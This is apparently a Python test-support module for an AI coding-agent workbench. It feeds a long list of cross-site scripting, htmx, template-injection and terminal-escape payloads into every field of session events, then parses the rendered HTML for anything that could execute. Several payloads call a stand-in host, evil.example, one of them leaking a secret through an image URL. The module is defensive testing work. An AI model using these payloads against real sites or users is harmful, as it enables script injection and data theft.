"""Texts that try to act in a page, events that carry one in every field, and what tells that nothing of it acts."""

from html.parser import HTMLParser
from typing import Any

from workbench.journal.kinds import (
    ApprovalAsked,
    ApprovalDecided,
    Event,
    ModeChanged,
    ModelFailed,
    ModelTurn,
    QuestionAnswered,
    QuestionAsked,
    RolledBack,
    SessionDone,
    SessionFailed,
    SessionPaused,
    SessionRecovered,
    SessionResumed,
    SessionStarted,
    SessionStopped,
    ToolCall,
    ToolResult,
    ToolStarted,
    UserMessage,
)

PAYLOADS = (
    "<script>evil()</script>",
    "<img src=x onerror=evil()>",
    "<svg onload=evil()>",
    "<svg/onload=evil()>",
    '"><script>evil()</script>',
    "'><img src=x onerror=evil()>",
    "</textarea><script>evil()</script>",
    "</title><script>evil()</script>",
    "</pre></td></tr></table><iframe src=//evil.example></iframe>",
    '" onmouseover="evil()',
    "' autofocus onfocus='evil()",
    "` onerror=evil() `",
    "javascript:evil()",
    "JaVaScRiPt:evil()",
    "java\tscript:evil()",
    "data:text/html,<script>evil()</script>",
    "vbscript:evil()",
    "[x](javascript:evil())",
    "[x](JAVASCRIPT:evil())",
    "[x](java&#115;cript:evil())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:evil())",
    "![x](javascript:evil())",
    "![a](https://evil.example/?q=secret)",
    "<https://evil.example/>",
    '[x](https://evil.example "a\\" onclick=\\"evil()")',
    "[x]: javascript:evil()\n\n[x]",
    "```html\n<script>evil()</script>\n```",
    '```"><script>evil()</script>\nx\n```',
    "<a href='javascript:evil()'>x</a>",
    "<div hx-get='/evil' hx-trigger=load>x</div>",
    "<div data-hx-get='/evil' data-hx-trigger=load></div>",
    "<span hx-swap-oob='true' id='seq' data-seq='999999'></span>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input type=submit></form>",
    "<math><mtext></mtext><mglyph><style><img src onerror=evil()></style></mglyph></math>",
    "<object data=evil.swf>",
    "<embed src=//evil.example>",
    "<details open ontoggle=evil()>",
    "<template><script>evil()</script></template>",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "{% endpartialdef %}<script>evil()</script>",
    "\x1b[31m<script>evil()</script>\x1b[0m",
    "\x1b]8;;javascript:evil()\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]0;title\x07",
    "\x1bP1$r<script>evil()</script>\x1b\\",
    "\x1b_<script>evil()</script>\x1b\\",
    "safe\r<script>evil()</script>",
    "\x9b31m<b onclick=evil()>",
    "\u202e<script>evil()</script>\u202c",
    "\u200b<script>evil()</script>",
    "<scr\x00ipt>evil()</scr\x00ipt>",
    "\ud800<script>evil()</script>",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "&#x3C;script&#x3E;evil()",
    "--><script>evil()</script>",
    "]]><script>evil()</script>",
    "a" * 300 + "<script>evil()</script>",
)

OURS = {"base.js", "live.js", "clock.js", "theme.js", "htmx-2.min.js", "hx-ws-2.min.js"}
FORBIDDEN = {"iframe", "object", "embed", "base", "style", "math", "foreignobject", "frame", "applet", "template"}


class Inert(HTMLParser):
    """Collects everything in a page that could act and that no template of ours wrote."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.acts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        shown = f"<{tag} {found}>"
        if tag in FORBIDDEN or (tag == "script" and not str(found.get("src", "")).startswith("/static/")):
            self.acts.append(shown)
        if tag in ("meta", "link") and "evil" in str(found):
            self.acts.append(shown)
        for name, value in found.items():
            text = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "hx-on", "data-hx-get"):
                self.acts.append(shown)
            if name in ("href", "src", "action", "hx-get", "hx-post", "ws-connect") and not self._harmless(
                name, text, found
            ):
                self.acts.append(shown)

    @staticmethod
    def _harmless(name: str, text: str, found: dict[str, str | None]) -> bool:
        if text.startswith(("/", "#", "?")) and not text.startswith(("//", "/evil")):
            return True
        outward = name == "href" and text.startswith(("http://", "https://", "mailto:"))
        return outward and "noopener" in str(found.get("rel"))


def acts(html: str) -> list[str]:
    """What in `html` would act."""
    parser = Inert()
    parser.feed(html)
    parser.close()
    return parser.acts


def tools(text: str) -> list[tuple[str, dict[str, Any], dict[str, Any]]]:
    """(tool, arguments, result) with the text in every place that a template draws."""
    diff = f"--- a/{text}\n+++ b/{text}\n@@ -1,2 +1,2 @@ {text}\n-{text}\n+{text} x\n {text}\n"
    changed = {"path": text, "diff": diff, "version": "x", "notes": [text], "tolerance": text, "created": True}
    edits = [{"old_string": text, "new_string": f"{text}2"}]
    return [
        (
            "read_file",
            {"path": text},
            {
                "path": text,
                "content": f"     1| {text}",
                "total_lines": 1,
                "encoding": text,
                "eol": "lf",
                "warning": text,
                "next": {"offset": 1},
            },
        ),
        ("glob", {"pattern": text, "path": text}, {"paths": [text], "note": text}),
        (
            "grep",
            {"pattern": text, "glob": text},
            {"content": f"{text}:3: {text}\na.py:4: {text}", "matches": 2, "note": text},
        ),
        ("grep", {"pattern": ".", "path": text}, {"files": [text], "mode": "files"}),
        (
            "bash",
            {"command": text, "grants": [text]},
            {
                "exit_code": 1,
                "output": text,
                "notes": [text],
                "message": text,
                "changed": [{"path": text, "change": text, "added": 1, "removed": 1}],
            },
        ),
        ("write_file", {"path": text, "content": text}, changed),
        ("edit_file", {"path": text, "old_string": text, "new_string": f"{text}2"}, changed),
        ("multi_edit", {"path": text, "edits": edits}, changed),
        ("delete_file", {"path": text}, {"path": text, "deleted": True, "diff": diff}),
        ("move_file", {"source": text, "destination": text}, {"source": text, "destination": text}),
        ("ask_user", {"question": text, "options": [{"label": text, "description": text}]}, {"answer": text}),
        (text, {text: text, "list": [text]}, {text: [text]}),
        ("bash", text, {"error": "bad_args", "message": text}),
    ]


def _call(call: str, text: str, made: ToolCall, data: dict[str, Any]) -> list[Event]:
    """The call decided, run and taken back; and the same call while it waits."""
    effect = {"verb": text, "target": text, "detail": text, "part": 0}
    asked = ApprovalAsked(call_id=call, digest=text, effects=[effect], reasons=[text], rule=text, cwd=text)
    ran: list[Event] = [
        ToolStarted(call_id=call),
        ToolResult(call_id=call, ok="error" not in data, data=data, view={"versions": [7], "sandbox": text}),
        RolledBack(call_id=call, version=7, new_version=8, path=text, by=text),
    ]
    first = made.model_copy(update={"call_id": call})
    if isinstance(made.args, str):
        return [first, *ran]
    approved = ApprovalDecided(call_id=call, outcome="approved", by=text, via=text, reason=text)
    waits = f"{call}-waits"
    again = made.model_copy(update={"call_id": waits, "turn": 2})
    return [first, asked, approved, *ran, again, asked.model_copy(update={"call_id": waits})]


def events(text: str) -> list[Event]:
    """A session in which every field that is text is `text`."""
    found: list[Event] = [
        SessionStarted(task=text, workspace=text, model=text, mode="ask", sandbox=text, by=text),
        UserMessage(text=text, by=text, delivery="steer"),
        ModelTurn(turn=1, text=text, reasoning=text),
        ModelFailed(message=text, attempt=1, retry_in_s=2),
        ModeChanged(mode="auto", by=text),
        SessionPaused(by=text),
        SessionResumed(by=text),
        SessionStopped(by=text),
        SessionRecovered(interrupted=[text]),
        SessionDone(reason=text),
        SessionFailed(message=text),
    ]
    for number, (tool, args, data) in enumerate(tools(text)):
        found += _call(f"{text}-{number}", text, ToolCall(call_id="", turn=1, tool=tool, args=args, batch=number), data)
    for state in ("open", "answered"):
        call = f"{text}-{state}"
        found += [
            ToolCall(call_id=call, turn=3, tool="ask_user", args={}, batch=0 if state == "open" else 1),
            ToolStarted(call_id=call),
            QuestionAsked(call_id=call, question=text, options=[{"label": text, "description": text}]),
        ]
        if state == "answered":
            found.append(QuestionAnswered(call_id=call, outcome="answered", answer=text, by=text))
    return found
